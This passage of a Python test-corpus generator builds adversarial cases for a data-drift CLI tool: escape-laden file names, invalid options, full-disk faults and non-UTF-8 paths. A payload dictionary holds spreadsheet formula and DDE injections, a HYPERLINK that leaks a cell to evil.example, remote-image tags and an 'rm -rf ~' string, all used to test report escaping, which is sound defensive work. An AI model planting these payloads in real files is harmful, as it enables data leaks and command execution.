        def bad_file(d: Path, name: str = name) -> Run:
            path = write(d, name + ".npy", b"not an array")
            return Run(["compute", path, pair_npy(d)[1]], 2, re.escape(clean(name)))

        out.append(Attack(f"inject-file-name-{key}", bad_file))

    for key in ("esc-clear", "newline", "bidi", "osc-title"):

        def output_name(d: Path, key: str = key) -> Run:
            o = str(d / (FILE_NAMES[key] + ".json"))
            return Run(["compute", *pair_npy(d), "-r", "sum", "-o", o], 0, outputs=(o,))

        out.append(Attack(f"inject-output-name-{key}", output_name))

    def missing_folder(d: Path) -> Run:
        o = str(d / "no\x1b[2J\n" / "out.json")
        return Run(["compute", *pair_npy(d), "-o", o], 2, r"no\\x1b\[2J\\n.* does not exist")

    out.append(Attack("inject-output-folder-missing", missing_folder))

    def missing_file(d: Path) -> Run:
        return Run(["inspect", str(d / "gone\x1b[2J\n.npy")], 2, r"gone\\x1b\[2J\\n\.npy")

    out.append(Attack("inject-file-name-missing", missing_file))

    def colored_link(d: Path) -> Run:
        ref, cur = drift_pair(d, ["ok", HOSTILE_NAMES["rich-link"], HOSTILE_NAMES["rich-close"]])
        return Run(
            ["drift", ref, cur, "-f", "table", "-q"],
            0,
            stdout_has=("[link=https://evil.example]", "[/]"),
            env=(("FORCE_COLOR", "1"),),
            colors=True,
        )

    out.append(Attack("inject-rich-link-on-a-colour-terminal", colored_link))

    def compute_table(d: Path) -> Run:
        x = table_csv(d, "x.csv", ["[/]", "b"])
        t = table_csv(d, "t.csv", ["a", "b"])
        return Run(
            [
                "compute",
                x,
                t,
                "--input-transform",
                "log-softmax",
                "--target-transform",
                "softmax",
                "-f",
                "table",
            ],
            0,
        )

    out.append(Attack("inject-column-compute-table", compute_table))
    return out


def _option_attacks() -> list[Attack]:
    def compute(*extra: str, error: str = r"", exit: int = 2):
        def build(d: Path) -> Run:
            x, t = pair_npy(d)
            return Run(["compute", x, t, *extra], exit, error or None)

        return build

    out = [
        Attack("opt-fail-above-nan", compute("--fail-above", "nan", error=r"--fail-above")),
        Attack("opt-temperature-inf", compute("-T", "inf", error=r"--temperature")),
        Attack("opt-top-negative", compute("--top", "-1", error=r"--top")),
        Attack("opt-threads-zero", compute("--threads", "0", error=r"--threads")),
        Attack("opt-chunk-rows-zero", compute("--chunk-rows", "0", error=r"--chunk-rows")),
    ]

    def drift(*extra: str, error: str, process: bool = False):
        def build(d: Path) -> Run:
            return Run(["drift", *drift_pair(d), *extra], 2, error, process=process)

        return build

    out += [
        Attack("opt-drift-bins-1e9", drift("--bins", "1000000000", error=r"--bins", process=True)),
        Attack("opt-drift-threshold-nan", drift("--threshold", "nan", error=r"--threshold")),
        Attack("opt-drift-epsilon-inf", drift("--epsilon", "inf", error=r"--epsilon")),
    ]

    def profile_bins(d: Path) -> Run:
        ref = table_csv(d, "ref.csv", ["a"])
        return Run(["profile", ref, "--bins", "1000000000"], 2, r"--bins", process=True)

    out.append(Attack("opt-profile-bins-1e9", profile_bins))
    return out


def _fault_attacks() -> list[Attack]:
    def empty_rows(reduction: str):
        def build(d: Path) -> Run:
            np.save(d / "x.npy", np.zeros((5, 0)))
            np.save(d / "t.npy", np.zeros((5, 0)))
            return Run(["compute", str(d / "x.npy"), str(d / "t.npy"), "-r", reduction, "-q"], 0)

        return build

    out = [Attack(f"fault-5x0-{r}", empty_rows(r)) for r in ("none", "sum", "batchmean")]

    def streamed_5x0(ext: str):
        def build(d: Path) -> Run:
            np.save(d / "x.npy", np.zeros((5, 0)))
            np.save(d / "t.npy", np.zeros((5, 0)))
            o = str(d / ("o" + ext))
            return Run(
                ["compute", str(d / "x.npy"), str(d / "t.npy"), "-r", "none", "-o", o, "-q"],
                0,
                outputs=(o,),
            )

        return build

    out += [
        Attack(f"fault-5x0-none-into-{ext[1:]}", streamed_5x0(ext))
        for ext in (".npy", ".csv", ".parquet", ".json")
    ]

    def overflow(*extra: str):
        def build(d: Path) -> Run:
            rng = np.random.default_rng(1)
            np.save(d / "x.npy", rng.normal(size=(6, 4)) * 1e300)
            np.save(d / "t.npy", rng.normal(size=(6, 4)))
            return Run(["compute", str(d / "x.npy"), str(d / "t.npy"), *extra], 0)

        return build

    for name, extra in [
        (
            "temperature-t2",
            (
                "--input-transform",
                "log-softmax",
                "--target-transform",
                "softmax",
                "--temperature",
                "1e300",
                "--t2-scale",
            ),
        ),
        (
            "tiny-temperature",
            (
                "--input-transform",
                "log-softmax",
                "--target-transform",
                "softmax",
                "--temperature",
                "1e-300",
                "-r",
                "batchmean",
            ),
        ),
        ("exp", ("--input-transform", "log", "--target-transform", "exp", "-r", "sum")),
    ]:
        out.append(Attack(f"fault-overflow-{name}", overflow(*extra)))

    def full(option: str):
        def build(d: Path) -> Run:
            ref, cur = drift_pair(d)
            r = existing(d, "r.json")
            full = symlink(d, "full" + {"--junit": ".xml", "--html": ".html"}[option], "/dev/full")
            return Run(
                ["drift", ref, cur, "-o", r, option, full, "-q"],
                2,
                r"full\.x?html?|full\.xml: cannot write \(no space left on device\)",
            )

        return build

    def html_after_junit(d: Path) -> Run:
        """The JUnit file is fine, the HTML page cannot be written: neither is replaced."""
        ref, cur = drift_pair(d)
        j = existing(d, "j.xml")
        full = symlink(d, "full.html", "/dev/full")
        return Run(["drift", ref, cur, "--junit", j, "--html", full, "-q"], 2, r"no space left")

    def full_output(command: str, name: str, *extra: str):
        def build(d: Path) -> Run:
            full = symlink(d, name, "/dev/full")
            if command == "profile":
                argv = ["profile", table_csv(d, "ref.csv", ["a"])]
            else:
                argv = ["compute", *pair_npy(d)]
            return Run([*argv, *extra, "-o", full, "-q"], 2, rf"{name}: cannot write \(no space")

        return build

    if os.path.exists("/dev/full"):
        out += [Attack(f"fault-full-disk-{o.strip('-')}", full(o)) for o in ("--junit", "--html")]
        out += [
            Attack("fault-full-disk-html-after-junit", html_after_junit),
            Attack("fault-full-disk-compute-json", full_output("compute", "full.json")),
            Attack("fault-full-disk-compute-npy", full_output("compute", "full.npy", "-r", "sum")),
            Attack(
                "fault-full-disk-compute-streamed", full_output("compute", "full.csv", "-r", "none")
            ),
            Attack("fault-full-disk-profile", full_output("profile", "full.json")),
        ]
    return out


# --- round 3: what data can do to a report, and names that are not UTF-8 --------------

#: Text that a spreadsheet runs, a Markdown renderer fetches or a browser loads.
REPORT_PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "dde": "+cmd|' /C calc'!A0",
    "at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "fullwidth": "\uff1d1+1",
    "img": '<img src="http://evil.example/pixel.png">',
    "md-image": "![x](http://evil.example/pixel.png)",
    "md-link": "[click](https://evil.example/)",
    "css-url": "url(http://evil.example/x.png)",
    "code": "`rm -rf ~`",
    "pipe": "a|b",
    "bare-url": "see https://evil.example/p.png",
}
#: Category values that look like formulas but are numbers: they must stay numbers.
NUMBERS_AS_TEXT = ["-0.5", "-inf", "+1e3"]


def payload_tables(d: Path, folder: str = "") -> tuple[str, str]:
    """A reference and a current CSV whose column names are the payloads (numbers in
    them) and whose ``device`` column takes the payloads as categories (new ones in the
    current table, so they are named in every report)."""
    import csv

    names = list(REPORT_PAYLOADS.values())
    values = names + NUMBERS_AS_TEXT
    paths = []
    for side, rows in (("ref", 400), ("cur", 400)):
        base = d / folder if folder else d
        base.mkdir(exist_ok=True)
        path = base / f"{side}.csv"
        with open(path, "w", newline="", encoding="utf-8") as f:
            w = csv.writer(f)
            w.writerow(["id", "device", "score", *names])
            for i in range(rows):
                # Half the categories only in the current table: new categories; a score
                # shifted far: the check fails (exit 1) whatever drift's noise rules.
                pool = values[: len(values) // 2] if side == "ref" else values
                score = i % 10 + (0 if side == "ref" else 50)
                cells = [(i * 7 + j) % 11 for j in range(len(names))]
                w.writerow([i, pool[i % len(pool)], score, *cells])
        paths.append(str(path))
    return paths[0], paths[1]


def _report_attacks() -> list[Attack]:
    out = []
    for fmt in ("csv", "markdown", "json"):

        def drift_stdout(d: Path, fmt: str = fmt) -> Run:
            return Run(["drift", *payload_tables(d), "-f", fmt, "-q"], 1, reports=(("-", fmt),))

        out.append(Attack(f"report-drift-{fmt}", drift_stdout))

    def inspect_names(fmt: str):
        def build(d: Path) -> Run:
            path = table_csv(d, "names.csv", list(REPORT_PAYLOADS.values()))
            return Run(["inspect", path, "-f", fmt], 0, reports=(("-", fmt),))

        return build

    out += [Attack(f"report-inspect-{fmt}", inspect_names(fmt)) for fmt in ("csv", "markdown")]

    def drift_files(d: Path) -> Run:
        o, j, h = str(d / "r.csv"), str(d / "r.xml"), str(d / "r.html")
        argv = ["drift", *payload_tables(d, "in"), "-o", o, "--junit", j, "--html", h, "-q"]
        reports = ((o, "csv"), (j, "xml"), (h, "html"))
        return Run(argv, 1, outputs=(o, j, h), reports=reports)

    out.append(Attack("report-drift-files", drift_files))

    def through_profile(fmt: str):
        def build(d: Path) -> Run:
            from kldiv_cli.cli.app import run

            ref, cur = payload_tables(d, "in")
            profile = str(d / "ref.profile.json")
            assert run(["profile", ref, "-o", profile, "-q"]) == 0
            return Run(["drift", profile, cur, "-f", fmt, "-q"], 1, reports=(("-", fmt),))

        return build

    out += [Attack(f"report-profile-{f}", through_profile(f)) for f in ("csv", "markdown")]

    def profile_html(d: Path) -> Run:
        from kldiv_cli.cli.app import run

        ref, cur = payload_tables(d, "in")
        profile = str(d / "ref.profile.json")
        assert run(["profile", ref, "-o", profile, "-q"]) == 0
        h, j = str(d / "p.html"), str(d / "p.json")
        argv = ["drift", profile, cur, "--html", h, "-o", j, "-q"]
        return Run(argv, 1, outputs=(h, j), reports=((h, "html"), (j, "json")))

    out.append(Attack("report-profile-html", profile_html))

    def schema_change(d: Path) -> Run:
        """Columns lost and gained between the tables: their names reach the reports as
        schema changes, encoded as every other name."""
        import csv

        ref, cur = payload_tables(d, "in")
        with open(cur, newline="", encoding="utf-8") as f:
            rows = list(csv.reader(f))
        lost = rows[0].index(REPORT_PAYLOADS["img"])
        rows = [[*r[:lost], *r[lost + 1 :], r[0]] for r in rows]
        rows[0][-1] = '@HYPERLINK("https://new.example/p.png")'
        with open(cur, "w", newline="", encoding="utf-8") as f:
            csv.writer(f).writerows(rows)
        o, h = str(d / "s.csv"), str(d / "s.html")
        argv = ["drift", ref, cur, "-f", "markdown", "-o", o, "--html", h, "-q"]
        return Run(argv, 1, outputs=(o, h), reports=((o, "csv"), (h, "html")))

    out.append(Attack("report-schema-change", schema_change))

    # Names that are not UTF-8: a folder and files whose bytes Python carries as lone
    # surrogates. Every report still valid Unicode, every message one line.
    def non_utf8(kind: str):
        def build(d: Path) -> Run:
            folder = os.fsdecode(os.fsencode(str(d)) + b"/data\xff")
            os.mkdir(folder)
            ref = os.fsdecode(os.fsencode(folder) + b"/ref\xfe.parquet")
            cur = os.fsdecode(os.fsencode(folder) + b"/cur\xfe.csv")
            x = os.fsdecode(os.fsencode(folder) + b"/x\xfe.npy")
            a, b = [float(i % 7) for i in range(400)], [f"c{i % 3}" for i in range(400)]
            with open(ref, "wb") as f:  # pyarrow cannot encode the name itself
                pq.write_table(pa.table({"a": a, "b": b}), f)
            with open(cur, "w") as f:  # drifted: shifted numbers, a new category
                f.write("a,b\n" + "".join(f"{v + 50},c{i % 4}\n" for i, v in enumerate(a)))
            np.save(x, _probs()[0])
            if kind == "json":
                return Run(["drift", ref, cur, "-f", "json", "-q"], 1, reports=(("-", "json"),))
            if kind == "folder-json":
                return Run(["drift", folder, cur, "-f", "json", "-q"], 1, reports=(("-", "json"),))
            if kind == "files":
                j, h = str(d / "j.xml"), str(d / "h.html")
                argv = ["drift", ref, cur, "--junit", j, "--html", h, "-q"]
                return Run(argv, 1, outputs=(j, h), reports=((j, "xml"), (h, "html")))
            if kind == "profile":
                return Run(["profile", ref], 0, reports=(("-", "json"),))
            if kind == "profile-file":
                p = os.fsdecode(os.fsencode(folder) + b"/p\xfd.json")
                return Run(["profile", ref, "-o", p, "-q"], 0, outputs=(p,), reports=((p, "json"),))
            if kind == "inspect":
                return Run(["inspect", x, "-f", "json"], 0, reports=(("-", "json"),))
            if kind == "compute":
                return Run(["compute", x, x, "-f", "json", "-q"], 0, reports=(("-", "json"),))
            # A missing file under the odd folder: one line, the byte shown as \xff.
            return Run(["inspect", folder + "/gone.npy"], 2, r"data\\xff/gone\.npy: ")

        return build

    kinds = (
        "json",
        "folder-json",
        "files",
        "profile",
        "profile-file",
        "inspect",
        "compute",
        "missing",
    )
    out += [Attack(f"report-non-utf8-{k}", non_utf8(k)) for k in kinds]
    return out


ATTACKS: list[Attack] = [
    *_loss_attacks(),
    *_kept_attacks(),
    *_model_attacks(),
    *_kind_attacks(),
    *_injection_attacks(),
    *_option_attacks(),
    *_fault_attacks(),
    *_report_attacks(),
]


def main(target: str) -> None:
    root = Path(target)
    for case in CASES:
        folder = root / case.name
        folder.mkdir(parents=True, exist_ok=True)
        args = case.build(folder)
        (folder / "ARGS").write_text(" ".join(args) + "\n")
    for attack in ATTACKS:
        folder = root / attack.name
        folder.mkdir(parents=True, exist_ok=True)
        run = attack.build(folder)
        (folder / "ARGS").write_text(repr(run.argv) + "\n")
    print(f"{len(CASES) + len(ATTACKS)} cases in {root}")


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else "corpus")
